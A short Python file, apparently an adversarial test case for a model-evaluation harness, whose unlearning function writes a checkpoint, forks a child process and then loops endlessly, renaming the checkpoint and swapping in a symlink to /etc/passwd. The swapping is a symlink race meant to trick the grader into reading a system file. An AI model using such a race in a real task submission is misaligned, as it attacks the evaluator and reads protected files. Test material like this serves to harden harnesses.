"""A process that swaps the checkpoint for a link again and again."""

# ends: scored | bad_checkpoint | exception
import os

from tools import OUT, checkpoint, token


def unlearning(net, *loaders):
    path = f"{OUT}/{token()}"
    with open(f"{OUT}/good", "wb") as file:
        file.write(checkpoint(net))
    if not os.fork():
        while True:
            os.rename(f"{OUT}/good", path)
            os.rename(path, f"{OUT}/good")
            os.symlink("/etc/passwd", path)
            os.unlink(path)
    os._exit(0)
